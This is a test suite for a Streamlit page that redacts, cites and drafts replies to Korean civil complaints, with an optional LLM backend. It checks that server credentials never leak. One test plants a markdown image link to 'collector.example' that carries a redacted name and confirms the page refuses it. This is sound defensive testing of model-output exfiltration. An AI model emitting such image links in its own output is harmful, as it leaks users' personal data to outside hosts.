"""The Civil Affairs page: renders on bundled data, redacts, cites, opens sources, switches backend.

Trust: the server's key and password never reach an element or the session state; the visitor can
only choose the embedded backend or the configured server; model text is shown as text.
"""

import contextlib
import json
import re
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from google.protobuf import text_format
from streamlit.testing.v1 import AppTest

from apps.sections import by_key

PAGE = str(by_key("llm").page_path)
TIMEOUT = 120
KEY = "sk-page-test-7Qx9Zk2mW4"
PASSWORD = "pw-Ry8Lt3Vn5Hq"


@pytest.fixture
def page():
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT)
    at.run()
    assert not at.exception, at.exception
    return at


def _markdown(at) -> str:
    return "\n".join(m.value for m in at.markdown)


def _elements(at):
    """Every node of the rendered element tree (blocks, widgets, text, HTML, code, captions...)."""
    stack = [at._tree]
    while stack:
        node = stack.pop()
        yield node
        stack.extend(getattr(node, "children", {}).values())


def _everything(at) -> str:
    """All that the page holds: each element's protobuf (value, label, body, help, options, defaults),
    each widget's current value, and the session state."""
    parts = []
    for node in _elements(at):
        proto = getattr(node, "proto", None)
        if proto is not None:
            parts.append(text_format.MessageToString(proto, as_utf8=True))
        for attr in ("value", "label", "body", "help", "placeholder", "options"):
            # some element types compute these lazily and may not have them
            with contextlib.suppress(Exception):
                parts.append(repr(getattr(node, attr, None)))
    parts.extend(f"{k!r}={v!r}" for k, v in at.session_state.to_dict().items())
    return "\n".join(parts)


def _shown(at) -> str:
    """The text a visitor reads: Markdown, plain text, code blocks and HTML bodies."""
    out = []
    for node in _elements(at):
        proto = getattr(node, "proto", None)
        for field in ("body", "code_text"):
            value = getattr(proto, field, None) if proto is not None else None
            if isinstance(value, str) and value:
                out.append(value)
    return "\n".join(out)


def _dead_port() -> int:
    with socket.socket() as s:  # a loopback port that nothing listens on once closed
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class _ChatServer:
    """A chat-completions server on 127.0.0.1 (random port, threads) answering with ``reply(body)``."""

    def __init__(self, reply):
        self.authorization: list[str | None] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
                outer.authorization.append(self.headers.get("Authorization"))
                content = reply(body)
                payload = json.dumps(
                    {"choices": [{"index": 0, "message": {"role": "assistant", "content": content}}]},
                    ensure_ascii=False,
                ).encode("utf-8")
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05})
        self.thread.daemon = True

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(timeout=5)

    @property
    def port(self) -> int:
        return self.httpd.server_address[1]


def test_example_is_redacted_summarised_sourced_and_drafted(page):
    text = _shown(page)
    assert "[PHONE_1]" in text and "010-2345-6789" not in text
    assert "접수번호 2024-0502-117" in text  # receipt numbers stay
    assert any("[1]" in e.label for e in page.expander)
    assert "법적 근거" in text
    assert not page.warning
    assert any("근거 법령" in m.value for m in page.success)  # the legal basis, above the floor


def test_a_citation_button_opens_its_source(page):
    buttons = [b for b in page.button if b.key and b.key.startswith("ca_cite_")]
    assert buttons
    buttons[0].click().run()
    assert not page.exception
    number = buttons[0].key.rsplit("_", 1)[1]
    assert f"**[{number}]" in _markdown(page)


def test_pasted_english_complaint_and_press_release(page):
    page.radio(key="ca_source").set_value("paste").run()
    page.text_area(key="ca_text").input(
        "My neighbour Mr. John Smith (john@example.org, 010-1111-2222) asked for the CCTV records. "
        "Please disclose the records of the district office."
    ).run()
    page.radio(key="ca_kind").set_value("press_release").run()
    assert not page.exception
    text = _shown(page)
    assert "john@example.org" not in text and "[EMAIL_1]" in text
    assert "Headline" in text or "제목" in text


def test_restore_toggle_shows_the_identifiers_in_the_draft(page):
    page.radio(key="ca_source").set_value("paste").run()
    page.text_area(key="ca_text").input(
        "민원인 홍길동 씨입니다. 정보공개 청구 후 10일이 지났는데 결정이 없습니다. 답변 바랍니다."
    ).run()
    assert "홍길동" not in _shown(page)
    page.toggle(key="ca_restore").set_value(True).run()
    assert not page.exception
    # the letter to send is a code block to copy and a file to download, never rendered Markdown
    # the letter restates the request and quotes no personal statement: no name, no placeholder, no [n]
    assert len(page.code) == 1 and "민원인께서는" in page.code[0].value
    assert "[NAME_1]" not in page.code[0].value and not re.search(r"\[\d+\]", page.code[0].value)
    assert page.code[0].proto.language in ("", "plaintext")
    assert "홍길동" not in _markdown(page)
    downloads = [n for n in _elements(page) if type(n).__name__ == "DownloadButton"]
    assert len(downloads) == 1


def test_server_backend_without_settings_stays_offline_and_english_labels(page):
    page.session_state["civic_lang"] = "en"
    page.radio(key="ca_backend").set_value("server").run()
    assert not page.exception
    assert any("embedded backend is used" in i.value for i in page.info)
    assert any(s.value.startswith("5. Draft") for s in page.subheader)


def test_server_backend_with_a_dead_server_falls_back_with_a_warning(page, tmp_path, monkeypatch):
    monkeypatch.setenv("CIVIC_LLM_AUDIT", str(tmp_path / "audit.jsonl"))
    monkeypatch.setenv("CIVIC_LLM_URL", f"http://127.0.0.1:{_dead_port()}/v1")
    monkeypatch.setenv("CIVIC_LLM_MODEL", "local-model")
    page.radio(key="ca_backend").set_value("server").run()
    assert not page.exception
    assert page.warning and "unreachable" in page.warning[0].value
    assert (tmp_path / "audit.jsonl").read_text(encoding="utf-8").count('"status": "unreachable"') >= 1


def test_the_key_and_the_password_never_reach_the_page(tmp_path, monkeypatch):
    audit = tmp_path / "audit.jsonl"
    monkeypatch.setenv("CIVIC_LLM_AUDIT", str(audit))
    port = _dead_port()
    monkeypatch.setenv("CIVIC_LLM_URL", f"http://ops:{PASSWORD}@127.0.0.1:{port}/v1")
    monkeypatch.setenv("CIVIC_LLM_MODEL", "local-model")
    monkeypatch.setenv("CIVIC_LLM_KEY", KEY)
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT)
    at.run()
    snapshots = [_everything(at)]
    at.radio(key="ca_backend").set_value("server").run()
    assert not at.exception, at.exception
    # the visitor sees which server (host and port) and can only choose it or the embedded backend
    assert at.radio(key="ca_backend").options == ["내장(오프라인)", f"기관 내부 LLM 서버 · 127.0.0.1:{port}"]
    assert not at.text_input, "no widget may take a server URL, a model or a key"
    assert at.warning and "unreachable" in at.warning[0].value  # the call was made, with the key
    snapshots.append(_everything(at))
    at.toggle(key="ca_restore").set_value(True).run()
    at.session_state["civic_lang"] = "en"
    at.run()
    assert not at.exception, at.exception
    snapshots.append(_everything(at))
    for snapshot in snapshots:
        assert KEY not in snapshot and PASSWORD not in snapshot
        assert "ops:" not in snapshot
    assert f"127.0.0.1:{port}" in snapshots[-1]
    records = audit.read_text(encoding="utf-8")
    assert records and KEY not in records and PASSWORD not in records


def test_a_config_file_names_the_server_and_its_error_shows_no_secret(tmp_path, monkeypatch):
    config = tmp_path / "civic.toml"
    config.write_text(
        f'[llm]\nurl = "http://ops:{PASSWORD}@127.0.0.1:{_dead_port()}/v1"\ntimeout_s = "soon"\nkey = "{KEY}"\n',
        encoding="utf-8",
    )
    monkeypatch.setenv("CIVIC_CONFIG", str(config))
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT)
    at.run()
    at.radio(key="ca_backend").set_value("server").run()
    assert not at.exception, at.exception
    assert at.error and "model" in at.error[0].value  # half configured: no model
    assert any("embedded backend is used" in i.value or "내장 백엔드" in i.value for i in at.info)
    everything = _everything(at)
    assert KEY not in everything and PASSWORD not in everything


_SAFE_DRAFT = {
    "answer": "**중요** [NAME_1]님, 청구일부터 10일 이내에 결정합니다 [1].",
    "legal_basis": "# 근거\n- 관련 조문 [1]",
    "background": "_개정_ 이력은 자료 [1]에 있습니다.",
    "next_steps": "처리 결과는 문서로 알려 드립니다 [1].",
}


def test_server_text_is_shown_as_text_and_exfiltration_is_refused(tmp_path, monkeypatch):
    leak = {**_SAFE_DRAFT, "background": "자세한 내용 ![](http://collector.example/p.png?u=[NAME_1]) [1]"}
    answers = iter([json.dumps(_SAFE_DRAFT, ensure_ascii=False), json.dumps(leak, ensure_ascii=False)])

    def reply(body):
        if "JSON" in body["messages"][0]["content"]:
            return next(answers)
        return "[NAME_1]님이 정보공개 결정 지연을 문의함."

    monkeypatch.setenv("CIVIC_LLM_AUDIT", str(tmp_path / "audit.jsonl"))
    with _ChatServer(reply) as server:
        monkeypatch.setenv("CIVIC_LLM_URL", f"http://127.0.0.1:{server.port}/v1")
        monkeypatch.setenv("CIVIC_LLM_MODEL", "local-model")
        monkeypatch.setenv("CIVIC_LLM_KEY", KEY)
        at = AppTest.from_file(PAGE, default_timeout=TIMEOUT)
        at.run()
        at.radio(key="ca_source").set_value("paste").run()
        at.text_area(key="ca_text").input(
            "민원인 홍길동 씨입니다. 정보공개 청구 후 10일이 지났는데 결정이 없습니다."
        ).run()
        at.radio(key="ca_backend").set_value("server").run()
        assert not at.exception, at.exception
        assert server.authorization and all(a == f"Bearer {KEY}" for a in server.authorization)
        # the server's draft: in text elements, never in Markdown
        texts = [t.value for t in at.text]
        assert any(t.startswith("**중요** [NAME_1]님") for t in texts)
        assert "**중요**" not in _markdown(at) and "# 근거" not in _markdown(at)
        assert any(t.startswith("• [NAME_1]님이") for t in texts)  # the server's summary, as text too
        # a draft that would load an image carrying an identifier is refused; the embedded one is shown
        at.radio(key="ca_kind").set_value("press_release").run()
        assert not at.exception, at.exception
    assert any("refused" in w.value or "rejected" in w.value for w in at.warning)
    assert "collector.example" not in _everything(at).replace("\\", "")
    statuses = [json.loads(line)["status"] for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert "unsafe_output" in statuses


def test_a_complaint_no_bundled_law_governs_says_so(page):
    page.radio(key="ca_source").set_value("paste").run()
    page.text_area(key="ca_text").input(
        "여름만 되면 집 앞 하수구에서 악취가 심하게 올라옵니다. 하수관로를 청소해 주세요."
    ).run()
    assert not page.exception, page.exception
    assert any("찾지 못했습니다" in w.value and "하수도" in w.value for w in page.warning)
    draft = "\n".join(t.value for t in page.text)
    # no invented basis in the draft: the kind of law to check (하수도) is named, and the only act cited is
    # the one that sets the processing period (the next-steps section)
    assert "하수도" in draft
    assert set(re.findall(r"「([^」]+)」", draft)) <= {"민원 처리에 관한 법률"}


def test_every_genre_can_be_chosen_including_a_speech(page):
    assert page.radio(key="ca_kind").options == ["민원 답변", "보도자료", "연설문", "정보공개 청구 요약"]
    page.radio(key="ca_kind").set_value("speech").run()
    assert not page.exception, page.exception
    page.text_area(key="ca_audience").input("학부모").run()
    assert not page.exception, page.exception
    texts = [t.value for t in page.text]
    assert any(t.startswith("존경하는 학부모 여러분") for t in texts)
    assert any("읽는 시간" in c.value for c in page.caption)
    page.radio(key="ca_kind").set_value("disclosure_summary").run()
    assert not page.exception, page.exception
    assert "처리 기한" in _markdown(page)


def test_the_page_speaks_in_words_not_offsets_or_raw_scores(page):
    """#14: no character offsets, no unexplained retrieval scores, identifier kinds named in Korean."""
    texts = "\n".join(t.value for t in page.text)
    assert not re.search(r"원문 위치|\d+–\d+\)", texts)
    labels = [e.label for e in page.expander]
    assert labels and all(re.search(r"관련도 (높음|보통|낮음)$", label) for label in labels), labels
    assert not any("점수" in label for label in labels)
    captions = "\n".join(c.value for c in page.caption)
    assert "가린 항목: " in captions and "NAME" not in captions and "이름" in captions


def test_a_link_with_a_complaint_opens_that_example_and_the_url_follows_the_choice():
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT)
    at.query_params["complaint"] = "2"
    at.run()
    assert not at.exception, at.exception
    assert at.selectbox(key="ca_example").value == 2
    first = _shown(at)
    at.selectbox(key="ca_example").set_value(1).run()
    at.run()
    assert not at.exception, at.exception
    value = at.query_params["complaint"]
    assert (value[0] if isinstance(value, list) else value) == "1"
    assert _shown(at) != first  # another complaint: another analysis


def test_the_page_says_how_many_acts_it_searches(page):
    """The count comes from the corpus (20 acts since the municipal excerpts), not from a fixed number."""
    assert any("20개 법률(일부는 발췌)" in c.value for c in page.caption)
